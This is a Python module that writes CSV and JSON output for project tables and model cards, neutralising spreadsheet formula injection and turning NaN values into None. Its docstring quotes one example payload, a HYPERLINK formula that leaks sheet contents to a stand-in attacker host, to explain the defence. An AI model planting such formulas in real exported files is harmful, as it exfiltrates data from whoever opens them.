"""CSV text for every table the project writes, and values made strict JSON for tables and model cards.

Cells are neutralised against formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")``
would become a live link that leaks the sheet. Such a text cell gets a leading ``'`` (OWASP's advice); numbers
such as ``-0.5`` stay numbers.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from typing import Any

import numpy as np

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run as a formula gets a leading ``'``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        number = float(value)
    except ValueError:
        return "'" + value
    return value if math.isfinite(number) or value.strip().lstrip("+-").lower() in ("inf", "nan") else "'" + value


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV document (``\\n`` line ends), every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(v) for v in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def dict_csv_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
    """:func:`csv_text` of mappings (missing keys give empty cells)."""
    return csv_text(columns, ([row.get(k, "") for k in columns] for row in rows))


def json_safe(value: Any) -> Any:
    """``value`` as strict JSON takes it, dicts and lists walked: NaN and infinities become None (the per-class
    metrics hold NaN for classes absent from validation), numpy scalars Python numbers, tuples lists."""
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dict):
        return {k: json_safe(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [json_safe(v) for v in value]
    return value
